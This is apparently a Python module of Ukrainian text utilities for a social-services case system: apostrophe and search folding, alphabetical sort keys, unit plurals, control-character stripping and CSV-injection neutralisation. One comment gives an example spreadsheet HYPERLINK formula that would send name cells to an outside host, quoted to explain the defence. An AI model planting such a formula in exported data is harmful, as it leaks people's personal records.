"""Ukrainian text rules: apostrophes, search folding and alphabetical sort keys."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable, Iterable
from decimal import Decimal
from typing import TypeVar

from socdesk.domain.numbers import decimal_text

T = TypeVar("T")

# The three apostrophes people type; all become one form before indexing and searching.
APOSTROPHES = "'’ʼ"
APOSTROPHE = "ʼ"  # U+02BC, the modifier letter apostrophe recommended for Ukrainian
_APOSTROPHE_RE = re.compile(r"['’ʼ`´‘]")

UKRAINIAN_ALPHABET = "абвгґдеєжзиіїйклмнопрстуфхцчшщьюя"
_LATIN = "abcdefghijklmnopqrstuvwxyz"
_SORT_CODE = {ch: chr(0x41 + i) for i, ch in enumerate(UKRAINIAN_ALPHABET + _LATIN)}
_SORT_CODE.update({str(d): chr(0x30 + d) for d in range(10)})
_SORT_CODE.update({" ": " ", "-": " "})
FIELD_SEPARATOR = "\x1f"

# Latin letters that look like Cyrillic ones (ЄІССС maps the same set for documents).
LATIN_LOOKALIKES = str.maketrans("ABCEHIKMOPTXaceiopxy", "АВСЕНІКМОРТХасеіорху")


def normalize_apostrophes(text: str) -> str:
    return _APOSTROPHE_RE.sub(APOSTROPHE, text)


def clean_name(text: str) -> str:
    """A name as stored: trimmed, single spaces, one apostrophe form, NFC."""
    text = unicodedata.normalize("NFC", text)
    text = normalize_apostrophes(text)
    return re.sub(r"\s+", " ", text).strip()


def search_fold(text: str) -> str:
    """The form of text in the search index and in queries.

    Case-folded, one apostrophe, and ґ folded to г so that a search typed with г finds ґ.
    й/и, ї/і and є/е stay apart: they are different letters in Ukrainian.
    """
    text = normalize_apostrophes(unicodedata.normalize("NFC", text)).casefold()
    return text.replace("ґ", "г")


# Lower-case Latin letters that look like Cyrillic ones, for text already case-folded.
_FOLDED_LOOKALIKES = str.maketrans("aceiopxykmthb", "асеіорхукмтнв")
_CYRILLIC = re.compile(r"[\u0400-\u04ff]")
_WORD = re.compile(r"\w+")


def _cyrillic_word(match: re.Match[str]) -> str:
    word = match.group()
    return word.translate(_FOLDED_LOOKALIKES) if _CYRILLIC.search(word) else word


def index_fold(text: str) -> str:
    """The form of names and places in the search index and in what a person types there.

    `search_fold`, then every apostrophe dropped («демян» finds Демʼян) and, in a word with a
    Cyrillic letter, the Latin look-alikes made Cyrillic («Iзюм» typed with a Latin I finds
    Ізюм). A word wholly in Latin stays Latin. Both sides go through this one function.
    """
    return _WORD.sub(_cyrillic_word, search_fold(text).replace(APOSTROPHE, ""))


def sort_key(*parts: str | None) -> str:
    """A string whose byte order is Ukrainian alphabetical order (а б в г ґ д е є ж з и і ї й …).

    Case is ignored; apostrophes are ignored; digits sort before letters; Latin after Cyrillic.
    Parts (surname, name, patronymic) are joined by a separator that sorts below every letter,
    so "Ков" comes before "Коваль".
    """
    keys = []
    for part in parts:
        folded = unicodedata.normalize("NFC", part or "").casefold()
        keys.append("".join(_SORT_CODE.get(ch, "") for ch in folded))
    return FIELD_SEPARATOR.join(keys)


def in_ukrainian_order(items: Iterable[T], name: Callable[[T], str]) -> list[T]:
    """`items` sorted by `name` as a Ukrainian reader expects (`sort_key`): ґ after г, є after е,
    и і ї й in that order, ь before ю, case and apostrophes ignored. A code-point sort puts
    Є, І, Ї before А and Ґ after Я."""
    return sorted(items, key=lambda item: sort_key(name(item)))


def digits_only(text: str) -> str:
    return "".join(ch for ch in text if ch.isdigit())


# The classifier's units in the three forms a count takes (1 година, 2 години, 5 годин); a
# fraction takes the genitive singular (2,5 години). Units not listed are written as stored.
UNIT_FORMS = {
    "година": ("година", "години", "годин"),
    "доба": ("доба", "доби", "діб"),
    "день": ("день", "дні", "днів"),
    "захід": ("захід", "заходи", "заходів"),
    "комплект": ("комплект", "комплекти", "комплектів"),
    "консультація": ("консультація", "консультації", "консультацій"),
    "випадок": ("випадок", "випадки", "випадків"),
    "відвідування": ("відвідування", "відвідування", "відвідувань"),
}


def plural_form(n: int) -> int:
    """Ukrainian plural form of a whole count: 0 one, 1 few, 2 many."""
    if n % 10 == 1 and n % 100 != 11:
        return 0
    if 2 <= n % 10 <= 4 and not 12 <= n % 100 <= 14:
        return 1
    return 2


def quantity(amount: Decimal, unit: str) -> str:
    """ "2,5 години", "5 годин", "1 доба": a count with its unit as Ukrainian writes it."""
    forms = UNIT_FORMS.get(unit)
    whole = amount == amount.to_integral_value()
    number = decimal_text(amount)
    if forms is None:
        return f"{number} {unit}"
    return f"{number} {forms[plural_form(int(amount)) if whole else 1]}"


# Control characters a keyboard never types: NUL, ESC and the rest of C0 and C1 except tab and
# line breaks. They reach the store only by paste or import, and break exports (XLSX refuses
# them), so every value is cleaned before it is written (store.uow) or exported.
_CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def without_controls(text: str) -> str:
    """`text` without control characters; CR LF and a lone CR become LF."""
    return _CONTROLS.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


# A cell that starts with one of these is a formula to a spreadsheet program (CSV injection,
# OWASP): `=HYPERLINK("http://…?leak="&A2, …)` would send the person's name cells away.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: str) -> str:
    """A text cell as SocDesk writes it to CSV or XLSX: a value a spreadsheet would run as a
    formula gets a leading apostrophe, which shows it as text (OWASP's neutralisation)."""
    return "'" + value if value.startswith(_FORMULA_STARTS) else value


def from_spreadsheet(value: str) -> str:
    """A text cell as SocDesk reads it back: the apostrophe `spreadsheet_safe` added goes."""
    if value.startswith("'") and value[1:].startswith(_FORMULA_STARTS):
        return value[1:]
    return value


def short_name(surname: str, given_name: str = "", patronymic: str = "") -> str:
    """ "Коваль О. І.": the surname with the initials, as a case's title names its person."""
    initials = " ".join(f"{part.strip()[0]}." for part in (given_name, patronymic) if part.strip())
    return f"{surname.strip()} {initials}".strip()
